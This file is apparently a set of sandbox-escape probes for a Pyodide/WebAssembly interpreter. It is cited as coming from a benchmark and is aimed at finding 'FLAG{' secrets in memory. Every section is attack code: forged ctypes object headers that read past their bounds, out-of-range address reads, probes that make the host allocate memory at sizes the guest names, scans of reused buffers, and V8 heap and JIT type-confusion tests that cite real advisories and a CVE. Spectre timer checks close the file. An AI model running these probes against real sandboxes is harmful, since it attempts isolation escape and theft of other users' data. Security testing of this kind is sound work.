# Programs that look for what the process has in its memory.

# %% the memory of the interpreter
# Searches all of the memory that Python is in, also what was freed.
# Source: SandboxBench: discovery in the memory of processes
import ctypes
size = js("pyodide._module.HEAPU8.length")
for start in range(0, size, 1 << 20):
    try:
        found(ctypes.string_at(max(start, 1024), min((1 << 20) + 100, size - max(start, 1024))), start)
    except BaseException as error:
        print(start, error)

# %% addresses beyond the memory
# Reads below zero, past the end, and at addresses of a process, by ctypes and by buffers.
import ctypes
size = js("pyodide._module.HEAPU8.length")
for address in (size, size - 1, size + 65536, 2**31, 2**32 - 4096, 2**32 - 1, 2**32, 2**33, -1, -4096, 0x400000, 0x7FFFFFFFF000):
    tries(
        lambda: ctypes.string_at(address, 4096),
        lambda: bytes((ctypes.c_char * 4096).from_address(address & 0xFFFFFFFF)),
        lambda: ctypes.cast(address & 0xFFFFFFFF, ctypes.POINTER(ctypes.c_uint64))[1 << 28],
        lambda: js("(a) => pyodide._module.HEAPU8.slice(a, a + 4096).join()", address),
        lambda: js("(a) => new DataView(pyodide._module.HEAPU8.buffer).getFloat64(a)", address),
    )

# %% objects with false sizes
# Makes Python objects whose headers claim more memory than they have, and reads through them.
import ctypes
forged = bytearray(b"x" * 64)
class Var(ctypes.Structure):
    _fields_ = [("refcnt", ctypes.c_ssize_t), ("type", ctypes.c_void_p), ("size", ctypes.c_ssize_t)]
text = b"x" * 32
Var.from_address(id(text)).size = 2**31 - 64
try:
    for start in range(0, 2**31 - 64, 1 << 24):
        found(text[start : start + (1 << 24)], start)
except BaseException as error:
    print(type(error).__name__, error)
finally:
    Var.from_address(id(text)).size = 32

# %% sizes that a guest names
# Has the host make files, buffers and answers of sizes that the guest names, and searches them.
# Source: GHSA-8h84-8vq7-j6cv: the host takes memory by sizes that the guest names
import os
def gap(path, size):
    """Finds what the host has put between the end of a file and a byte far behind it."""
    with open(path, "w+b") as file:
        file.seek(size)
        file.write(b"x")
        for start in range(0, size, size // 4 + 1):
            file.seek(start)
            found(file.read(1 << 20), path)
def longer(path, size):
    """Finds what is in a file that was made longer."""
    file = os.open(path, os.O_RDWR | os.O_CREAT)
    os.ftruncate(file, size)
    os.lseek(file, size - (1 << 20) if size > 1 << 20 else 0, 0)
    found(os.read(file, size), path)
for size in (100, 1 << 16, 1 << 22, 1 << 30, 2**31 - 1, 2**32 + 1, 2**53, 2**63 - 1):
    for place in ("/data", "/tmp"):
        tries(lambda: gap(f"{place}/gap", size), lambda: longer(f"{place}/longer", size))
        tries(lambda: os.remove(f"{place}/gap"), lambda: os.remove(f"{place}/longer"))
    tries(
        lambda: len(os.urandom(size)),
        lambda: found(os.read(0, size)),
        lambda: found(os.pread(os.open("/data/notes.txt", os.O_RDONLY), size, 0)),
        lambda: echo("x" * min(size, 1 << 26))[:100],
        lambda: js("(n) => pyodide._module.FS.read(pyodide._module.FS.open('/data/notes.txt'), new Uint8Array(65536), 0, n, 0)", size),
        lambda: js("(n) => crypto.getRandomValues(new Uint8Array(n)).length", size),
    )

# %% fresh memory
# Takes new buffers of every kind, and looks for what others have left in them.
# Source: RUSTSEC-2026-0088: data of an instance is left in a pooled one
tries(lambda: js("""() => {
    const found = [], look = (bytes, where) => {
        for (let i = 0; i + 5 < bytes.length; i++)
            if (bytes[i] === 70 && bytes[i + 1] === 76 && bytes[i + 2] === 65 && bytes[i + 3] === 71 && bytes[i + 4] === 123)
                found.push(where + String.fromCharCode(...bytes.subarray(i, i + 64)));
        return bytes.some(b => b !== 0);
    };
    let dirty = 0;
    for (let i = 0; i < 40; i++) {
        for (const size of [64, 4096, 65536, 1 << 20]) {
            dirty += look(new Uint8Array(size), 'array');
            dirty += look(new Uint8Array(new ArrayBuffer(size, {maxByteLength: size * 2})), 'resizable');
        }
        dirty += look(new Uint8Array(new WebAssembly.Memory({initial: 4}).buffer), 'memory');
        const grown = new WebAssembly.Memory({initial: 1});
        grown.grow(4);
        dirty += look(new Uint8Array(grown.buffer), 'grown');
        const small = new ArrayBuffer(16, {maxByteLength: 65536});
        small.resize?.(65536);
        dirty += look(new Uint8Array(small), 'resized');
        dirty += look(new Uint8Array(new ArrayBuffer(65536).transfer(1 << 20)), 'transferred');
    }
    return found.join() + ' dirty: ' + dirty;
}""")())

# %% the heap of V8
# Searches strings and arrays for memory that is not theirs: slices, holes, long concatenations.
tries(*[(lambda code=code: js(code)) for code in (
    "'FLAG'.concat('{').repeat(1000).slice(0, 2**28).length",
    "(() => { const a = new Array(100); a.length = 2**32 - 1; return a[2**31]; })()",
    "(() => { const a = [1.1, 2.2]; return Array.prototype.slice.call({length: 1e5, __proto__: a}).filter(x => x !== undefined).length; })()",
    "(() => { const a = new Float64Array(8); a.__proto__ = Array.prototype; return a[100]; })()",
    "(() => { const b = new ArrayBuffer(64); const v = new DataView(b); b.transfer(); return v.getUint8(0); })()",
    "(() => { const b = new ArrayBuffer(64, {maxByteLength: 128}); const v = new Uint8Array(b, 32); b.resize?.(16); return v[0] + v.length; })()",
    "(() => { let a = [1, 2, 3, 4]; a.valueOf = 1; return a.splice(0, {valueOf() { a.length = 0; return 4; }}).join(); })()",
    "(() => { const t = new Uint8Array(64); return t.subarray({valueOf() { t.buffer.transfer?.(); return 0; }}, 64).join(); })()",
    "(() => { const t = new Uint32Array(16); t.sort((a, b) => { t.buffer.byteLength && t.buffer.transfer?.(); return a - b; }); return t.join(); })()",
    "(() => { const r = /(a+)+$/; r.lastIndex = {valueOf() { r.compile('b'); return 0; }}; return r.exec('aaab'); })()",
    "new TextDecoder('utf-16le').decode(new Uint8Array(3))",
    "JSON.parse('[' .repeat(5000))",
)])

# %% compiled code with wrong guesses
# Has V8 optimise functions for one kind of object, and calls them with another, many times.
# Source: V8's class of wrong types in compiled code (such as CVE-2026-3910)
tries(lambda: js("""() => {
    const out = new Set();
    const read = (a, i) => a[i];
    const kinds = [[1, 2, 3], [1.1, 2.2, 3.3], [{}, {}, {}], new Uint8Array(3), new Float64Array(3), 'abc', {0: 1}, new Proxy([1], {})];
    for (let round = 0; round < 40; round++)
        for (const kind of kinds) {
            for (let i = 0; i < 3000; i++) read(kind, i % 3);
            for (const index of [-1, 3, 1e3, 2**31, 2**32, 2**53, NaN, 'length']) {
                const value = read(kind, index);
                if (typeof value === 'number' && !Number.isNaN(value) && ![0, 1, 2, 3, 1.1, 2.2, 3.3].includes(value)) out.add(index + ':' + value);
            }
        }
    class A { constructor() { this.x = 1; } }
    const field = (o) => o.x;
    for (let i = 0; i < 20000; i++) field(new A());
    const odd = new A(); delete odd.x; odd.__proto__ = {get x() { return 'changed'; }};
    out.add(field(odd));
    return [...out].join();
}""")())

# %% precise clocks
# Measures how long reads of memory take, from which speculation would tell what is there.
# Source: Spectre, for interpreters in one process
import time
tries(
    lambda: len({time.perf_counter() for _ in range(100_000)}),
    lambda: js("(() => { const s = new Set(); for (let i = 0; i < 1e5; i++) s.add(performance.now()); return s.size; })()"),
    lambda: js("new SharedArrayBuffer(8)"),
    lambda: js("Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0, 1)"),
    lambda: js("new WebAssembly.Memory({initial: 1, maximum: 1, shared: true}).buffer"),
    lambda: js("new Worker('data:text/javascript,')"),
)
